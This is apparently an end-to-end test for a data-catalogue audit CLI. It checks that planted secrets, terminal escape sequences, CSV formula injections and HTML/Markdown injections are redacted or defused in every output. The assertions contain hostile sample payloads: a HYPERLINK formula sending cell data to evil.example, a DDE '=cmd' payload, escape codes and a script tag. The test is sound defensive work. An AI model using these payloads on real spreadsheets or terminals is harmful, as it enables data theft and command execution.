// The adversarial catalogue end to end: a loopback portal (fixtures/adversarial/datasets.json) plants secrets in
// the catalogue URL, resource URLs, OAS URLs, a Location header, echoed bodies, findings and unparseable URLs, and
// hostile titles and agencies. The CLI runs as a user runs it — an audit stopped with Ctrl-C and resumed, a second
// audit, report, awards, ci with JUnit and Markdown, history, diff, inspect — and every file it wrote, every
// stdout and stderr, and the history store (with its WAL) are searched for each secret and each raw escape.
import { spawn } from 'node:child_process';
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { existsSync, readFileSync } from 'node:fs';
import { mkdir, mkdtemp, readdir, readFile, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { toExportCsv } from '../../src/catalog/datagovtw-export.ts';
import { CLI, odbadge, type CliRun } from '../helpers/cli.ts';
import { taiwanTimeDaysAgo } from '../helpers/portal-fixture.ts';

interface FixtureResource { url: string; format: string; oasUrl?: string; exportOnly?: boolean }
interface FixtureDataset { id: string; title: string; agency: string; resources: FixtureResource[] }
const FIXTURE_TEXT = readFileSync(resolve(__dirname, '../../fixtures/adversarial/datasets.json'), 'utf8');
const FIXTURE = JSON.parse(FIXTURE_TEXT) as { catalogQuery: string; datasets: FixtureDataset[] };
/** A secret the server itself hands out, in a redirect's Location header. */
const LOCATION_SECRET = 'LOCTOKq7Zx0021';
const SECRETS = [...new Set([...(FIXTURE_TEXT.match(/[A-Z]+q7Zx\d{4}/g) ?? []), LOCATION_SECRET])];
/** Raw escapes and controls no text output may contain (the store is binary: searched for the planted sequences). */
const RAW_CONTROLS = /[\u0000-\u0008\u000b\u000c\u000e-\u001a\u001c-\u001f\u001b\u007f-\u009f]/;
const PLANTED_SEQUENCES = ['\u001b]0;PWNED', '\u001b[2J', '\u001b[31m', '\u001b[0m', '\u009b31m', '\u001b]0;BODY'];

const CSV = '村名,人口\r\n大安里,1200\r\n';
const state = { stall: false, goneBack: false };
const held: (() => void)[] = [];
const seen = { catalogueWithKey: 0, tokenResource: 0, oas: 0, stalled: 0 };

let server: Server;
let base = '';
let host = '';
let dir = '';
let catalogUrl = '';
const runs: { what: string; r: CliRun }[] = [];

const render = (s: string) => s.replaceAll('{base}', base).replaceAll('{host}', host);

function exportCsv(): string {
  // served as a portal serves it: the hostile cells as they are
  return toExportCsv(FIXTURE.datasets.map((d) => ({
    id: d.id, title: d.title, providerAttribute: '原始資料', category: '求職及就業', formats: d.resources.map((r) => r.format),
    urls: d.resources.map((r) => render(r.url)), encodings: d.resources.map(() => 'UTF-8'), uploadMethod: '單筆', description: '說明',
    fields: '村名、人口', agency: d.agency, frequency: '不定期', license: '政府資料開放授權條款-第1版', charge: '免費', contactName: '王小明',
    contactPhone: '02-12345678', publishedAt: '2020-01-01 00:00:00.000000', metadataUpdatedAt: taiwanTimeDaysAgo(1),
  })));
}

function route(req: IncomingMessage, res: ServerResponse): void {
  const url = new URL(req.url ?? '/', base);
  const q = url.searchParams;
  const csv = (): void => void res.writeHead(200, { 'content-type': 'text/csv; charset=utf-8' }).end(CSV);
  switch (url.pathname) {
    case '/api/front/dataset/export':
      // Only the real URL opens the catalogue: a redacted one (apikey=***) is refused.
      if (q.get('apikey') !== 'CATKEYq7Zx0001') return void res.writeHead(403, { 'content-type': 'text/plain' }).end(`bad apikey ${q.get('apikey')}`);
      seen.catalogueWithKey++;
      return void res.writeHead(200, { 'content-type': 'text/html; charset=UTF-8' }).end(exportCsv());
    case '/data/a.csv':
      if (q.get('token') !== 'TOKq7Zx0004') return void res.writeHead(403).end();
      seen.tokenResource++;
      return csv();
    case '/data/b.csv':
      return csv();
    case '/data/gone.csv':
      return state.goneBack ? csv() : void res.writeHead(404, { 'content-type': 'text/plain' }).end(`no such file for code ${q.get('code')}`);
    case '/redir':
      return void res.writeHead(302, { location: `/data/a.csv?token=TOKq7Zx0004&access_token=${LOCATION_SECRET}` }).end();
    case '/echo':
      return void res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' })
        .end(`<html><head><title>登入 \u001b]0;BODY-PWNED\u0007</title></head><body>invalid session ${q.get('session')} \u001b[2J</body></html>`);
    case '/deny':
      return void res.writeHead(403, { 'content-type': 'text/plain; charset=utf-8' }).end(`sessionid ${q.get('sessionid')} is not valid\u001b[2J`);
    case '/data/mismatch':
      return void res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify([{ 村名: '大安里', 人口: 1200, note: `key ${q.get('authKey')}` }]));
    case '/data/stall.csv':
      if (!state.stall) return csv();
      seen.stalled++;
      return void held.push(csv);
    case '/oas/ok.json':
      seen.oas++;
      return void res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({
        openapi: '3.0.3', info: { title: '\u001b]0;PWNED-OAS\u0007 API', version: '1' },
        paths: { '/x': { get: { responses: { 200: { description: `ok ${q.get('client_secret')}` } } } } },
      }));
    case '/oas/bad.json':
      seen.oas++;
      return void res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ openapi: '3.0.3', paths: { [`/x?k=${q.get('X-Goog-Credential')}`]: 7 } }));
  }
  const api = /^\/api\/v2\/rest\/dataset\/(.+)$/.exec(url.pathname);
  const d = api && FIXTURE.datasets.find((x) => x.id === decodeURIComponent(api[1]));
  if (d && d.resources.some((r) => r.oasUrl)) {
    return void res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({
      success: true,
      result: {
        datasetId: d.id, title: d.title,
        distribution: d.resources.map((r) => ({
          resourceDownloadUrl: render(r.url), resourceFormat: r.format, resourceCharacterEncoding: 'UTF-8', resourceField: '村名、人口',
          resourceOasUrl: r.oasUrl ? render(r.oasUrl) : '',
        })),
      },
    }));
  }
  res.writeHead(404, { 'content-type': 'text/plain' }).end('not found');
}

async function cli(what: string, args: string[]): Promise<CliRun> {
  const r = await odbadge(args, { timeoutMs: 120_000 });
  runs.push({ what, r });
  return r;
}

async function filesUnder(root: string): Promise<string[]> {
  const out: string[] = [];
  for (const e of await readdir(root, { withFileTypes: true, recursive: true })) if (e.isFile()) out.push(join(e.parentPath, e.name));
  return out;
}

beforeAll(async () => {
  server = createServer(route);
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  host = `127.0.0.1:${(server.address() as AddressInfo).port}`;
  base = `http://${host}`;
  catalogUrl = `${base}/api/front/dataset/export?${FIXTURE.catalogQuery}`;
  dir = await mkdtemp(join(tmpdir(), 'odbadge-adversarial-'));
});
afterAll(() => new Promise<void>((r) => {
  for (const f of held.splice(0)) f();
  server.closeAllConnections();
  server.close(() => r());
}));

describe('an adversarial catalogue leaks no secret and no escape sequence', () => {
  const out = (...p: string[]) => join(dir, 'out', ...p);
  const db = () => join(dir, 'out', 'store', 'history.db');

  it('runs the whole CLI: audit (Ctrl-C, resume), a second audit, report, awards, ci, history, diff, inspect', async () => {
    // 1. An audit stopped with Ctrl-C while one resource stalls.
    state.stall = true;
    const child = spawn(process.execPath, [CLI, 'audit', '--catalog', catalogUrl, '--out', out('a'), '--db', db(), '--allow-private-network', '--enrich'], { stdio: 'pipe' });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (c: Buffer) => (stdout += c.toString()));
    child.stderr.on('data', (c: Buffer) => (stderr += c.toString()));
    const gone = new Promise<number>((r) => child.on('exit', (code) => r(code ?? -1)));
    try {
      for (let t = Date.now(); !held.length; await new Promise((r) => setTimeout(r, 50))) {
        if (Date.now() - t > 60_000) throw new Error(`the stalled resource was never requested; stderr: ${stderr}`);
      }
      child.kill('SIGINT');
      // The stalled download is released once the audit has taken the interrupt, not after a guessed delay.
      for (let t = Date.now(); !/Stopping: finishing the datasets in flight/.test(stderr); await new Promise((r) => setTimeout(r, 25))) {
        if (Date.now() - t > 20_000) throw new Error(`the audit never took the interrupt; stderr: ${stderr}`);
      }
      state.stall = false;
      for (const f of held.splice(0)) f();
      expect(await gone, stderr).toBe(130);
    } finally {
      child.kill('SIGKILL');
    }
    runs.push({ what: 'audit (interrupted)', r: { code: 130, stdout, stderr } });
    expect(stderr).toContain('odbadge audit --resume 1 --db');
    expect(stderr).toContain('--catalog <the catalogue URL, with its credentials>');

    // 2. The run recorded a redacted catalogue URL: the resume asks for the real one, in one line.
    const noCatalog = await cli('resume without --catalog', ['audit', '--resume', '1', '--db', db()]);
    expect(noCatalog.code).toBe(2);
    expect(noCatalog.stderr.trim().split('\n')).toHaveLength(1);
    expect(noCatalog.stderr).toContain('give it again: odbadge audit --resume 1 --catalog <url>');
    const resumed = await cli('resume', ['audit', '--resume', '1', '--db', db(), '--catalog', catalogUrl]);
    expect(resumed.code, resumed.stderr).toBe(0);

    // 3. A second audit (one resource came back, so the diff has a hostile title to show).
    state.goneBack = true;
    const second = await cli('audit 2', ['audit', '--catalog', catalogUrl, '--out', out('b'), '--db', db(), '--allow-private-network', '--enrich']);
    expect(second.code, second.stderr).toBe(0);

    // 4. Everything that reads what was recorded.
    expect((await cli('report', ['report', '--results', out('b', 'results.json'), '--out', out('report'), '--previous', out('a', 'results.json')])).code).toBe(0);
    expect((await cli('awards', ['awards', '--results', out('b', 'results.json'), '--db', db(), '--out', out('awards')])).code).toBe(0);
    const local = join(dir, 'input', 'catalog.json'); // the test's own input holds the secrets: not searched
    await mkdir(join(dir, 'input'));
    await writeFile(local, JSON.stringify({
      datasets: FIXTURE.datasets.map((d) => ({
        id: d.id, title: d.title, agency: d.agency, frequency: '不定期', encoding: 'UTF-8', fields: '村名、人口',
        resources: d.resources.filter((r) => !r.exportOnly).map((r) => ({ url: render(r.url), format: r.format, ...(r.oasUrl ? { oasUrl: render(r.oasUrl) } : {}) })),
      })),
    }));
    const ci = await cli('ci', ['ci', '--catalog', `local:${local}`, '--allow-private-network', '--min-badge', 'gold', '--junit', out('ci', 'junit.xml'), '--markdown', out('ci', 'summary.md'), '--out', out('ci', 'reports')]);
    expect(ci.code, ci.stderr).toBe(1);
    const history = await cli('history --json', ['history', '--db', db(), '--json']);
    expect(history.code).toBe(0);
    expect(JSON.parse(history.stdout).runs.map((r: { catalog: string }) => r.catalog)).toEqual([
      `${base}/api/front/dataset/export?format=csv&apikey=***&token=***`, `${base}/api/front/dataset/export?format=csv&apikey=***&token=***`,
    ]);
    expect((await cli('history', ['history', '--db', db()])).code).toBe(0);
    const diff = await cli('diff --markdown', ['diff', '--db', db(), '--markdown']);
    expect(diff.code).toBe(0);
    expect(diff.stdout).toContain('## Badges that rose');
    expect((await cli('diff --json', ['diff', '1', '2', '--db', db(), '--json'])).code).toBe(0);
    const secretUrl = render(FIXTURE.datasets[0].resources[0].url);
    expect((await cli('inspect', ['inspect', secretUrl, '--allow-private-network'])).code).toBe(0);
    expect((await cli('inspect --json', ['inspect', secretUrl, '--allow-private-network', '--json'])).code).toBe(0);
    expect((await cli('inspect --openapi', ['inspect', '--openapi', render(FIXTURE.datasets[1].resources[0].oasUrl!), '--allow-private-network'])).code).toBe(1);

    // The real URLs were used: the catalogue opened only with its key, the token resource and the OAS documents served.
    expect(seen.catalogueWithKey).toBeGreaterThanOrEqual(3);
    expect(seen.tokenResource).toBeGreaterThanOrEqual(3);
    expect(seen.oas).toBeGreaterThanOrEqual(2);
    const results = JSON.parse(await readFile(out('b', 'results.json'), 'utf8')) as { datasets: { id: string; indicators: Record<string, { verdict: string }>; resources: { url: string }[] }[] };
    const byId = new Map(results.datasets.map((d) => [d.id, d]));
    expect(byId.get('adv-1')!.indicators['link-valid'].verdict).toBe('pass');
    expect(byId.get('adv-1')!.resources[0].url).toBe(`http://***@${host}/data/a.csv?token=***&id=1`);
    expect(byId.get('adv-3')!.resources[0].url).toBe(`${base}/data/gone.csv?code=***`);
    expect(byId.get('adv-2')!.resources[0].url).toBe(`${base}/data/b.csv?id=2&apikey=***&X-Amz-Signature=***&X-Amz-Credential=***`);
  }, 300_000);

  it('no planted secret in any file written, any stdout or stderr, or the store and its WAL', async () => {
    expect(runs.length).toBeGreaterThan(10);
    const files = await filesUnder(out());
    expect(files.some((f) => f.endsWith('history.db'))).toBe(true);
    expect(files.length).toBeGreaterThan(20);
    const leaks: string[] = [];
    for (const f of files) {
      const text = await readFile(f, 'latin1'); // byte-exact: the secrets are ASCII
      for (const s of SECRETS) if (text.includes(s)) leaks.push(`${s} in ${f}`);
    }
    for (const { what, r } of runs) {
      for (const s of SECRETS) {
        if (r.stdout.includes(s)) leaks.push(`${s} on the stdout of ${what}`);
        if (r.stderr.includes(s)) leaks.push(`${s} on the stderr of ${what}`);
      }
    }
    expect(leaks).toEqual([]);
    expect(SECRETS).toHaveLength(21); // the test searches for everything the fixture plants
  });

  it('no raw escape or control character in any text output, stdout or stderr; none of the planted sequences in the store', async () => {
    const bad: string[] = [];
    for (const f of await filesUnder(out())) {
      if (/history\.db(-wal|-shm)?$/.test(f)) {
        const bytes = await readFile(f, 'utf8');
        for (const q of PLANTED_SEQUENCES) if (bytes.includes(q)) bad.push(`${JSON.stringify(q)} in ${f}`);
      } else if (RAW_CONTROLS.test(await readFile(f, 'utf8'))) bad.push(f);
    }
    for (const { what, r } of runs) {
      if (RAW_CONTROLS.test(r.stdout)) bad.push(`stdout of ${what}`);
      if (RAW_CONTROLS.test(r.stderr)) bad.push(`stderr of ${what}`);
    }
    expect(bad).toEqual([]);
  });

  it('every CSV cell that a spreadsheet would run as a formula is defused', async () => {
    const csvs = (await filesUnder(out())).filter((f) => f.endsWith('.csv'));
    expect(csvs.map((f) => f.slice(out().length + 1)).sort()).toEqual([
      'a/agencies.csv', 'a/datasets.csv', 'a/fix-first.csv', 'a/summary.csv', 'b/agencies.csv', 'b/datasets.csv', 'b/fix-first.csv', 'b/summary.csv',
      'ci/reports/agencies.csv', 'ci/reports/datasets.csv', 'ci/reports/fix-first.csv', 'ci/reports/summary.csv',
      'report/agencies.csv', 'report/datasets.csv', 'report/fix-first.csv',
    ]);
    const live: string[] = [];
    for (const f of csvs) {
      const rows = parse((await readFile(f, 'utf8')).replace(/^\ufeff/, '')) as string[][];
      for (const row of rows) for (const cell of row) if (/^[=+\-@\t\r＝＋－＠]/.test(cell) && !/^[-+]?\d+(\.\d+)?$/.test(cell)) live.push(`${f}: ${cell}`);
    }
    expect(live).toEqual([]);
    const summary = parse((await readFile(out('b', 'summary.csv'), 'utf8')).replace(/^\ufeff/, ''), { columns: true }) as Record<string, string>[];
    const row = (id: string) => summary.find((r) => r.id === id)!;
    expect(row('adv-1').title).toBe('\'=HYPERLINK("http://evil.example/?x="&A1,"點我")');
    expect(row('adv-2').agency).toBe("'=cmd|' /C calc'!A0");
    expect(row('adv-3').title).toBe("'-1+1 <script>alert(1)</script>");
    expect(row('adv-3').agency).toBe("'@SUM(1+1)");
    expect(row('adv-4').title).toBe('標題清屏');
  });

  it('every Markdown table keeps its columns, and no catalogue HTML is live', async () => {
    const docs: [string, string][] = [];
    for (const f of (await filesUnder(out())).filter((x) => x.endsWith('.md'))) docs.push([f, await readFile(f, 'utf8')]);
    for (const { what, r } of runs.filter((x) => /^(audit 2|resume|diff --markdown|awards)$/.test(x.what))) docs.push([`stdout of ${what}`, r.stdout]);
    expect(docs.length).toBeGreaterThanOrEqual(10);
    const cells = (line: string) => line.split(/(?<!\\)\|/).length;
    const broken: string[] = [];
    for (const [name, md] of docs) {
      expect(md, name).not.toMatch(/<(script|b|img)\b/i);
      expect(md, name).not.toContain('![x]('); // the image syntax is escaped: no tracking pixel in a PR comment
      let header: number | undefined;
      for (const line of md.split('\n')) {
        if (!line.startsWith('|')) {
          header = undefined;
          continue;
        }
        header ??= cells(line);
        if (cells(line) !== header) broken.push(`${name}: ${line}`);
      }
    }
    expect(broken).toEqual([]);
    const report = await readFile(out('report', 'report.md'), 'utf8');
    expect(report).toContain('惡意機關 \\| 第一科&lt;b&gt;粗&lt;/b&gt;');
    const ciMd = await readFile(out('ci', 'summary.md'), 'utf8');
    expect(ciMd).toContain('- **紅字 !\\[x\\](http://evil.example/p.png) \\*粗\\* \\`碼\\`** (adv-5, 紅色機關)');
  });

  it('the store records redacted URLs only, keyed by them', async () => {
    const { DatabaseSync } = await import('node:sqlite');
    const d = new DatabaseSync(db(), { readOnly: true });
    try {
      const urls = (d.prepare('SELECT url FROM url_state ORDER BY url').all() as { url: string }[]).map((r) => r.url);
      expect(urls).toContain(`http://***@${host}/data/a.csv?token=***&id=1`);
      expect(urls).toContain(`${base}/data/stall.csv?passwd=***`);
      const options = (d.prepare('SELECT options FROM runs WHERE id = 1').get() as { options: string }).options;
      expect(JSON.parse(options)).toMatchObject({ catalog: `${base}/api/front/dataset/export?format=csv&apikey=***&token=***`, redacted: ['catalog'] });
    } finally {
      d.close();
    }
    expect(existsSync(db())).toBe(true);
  });
});
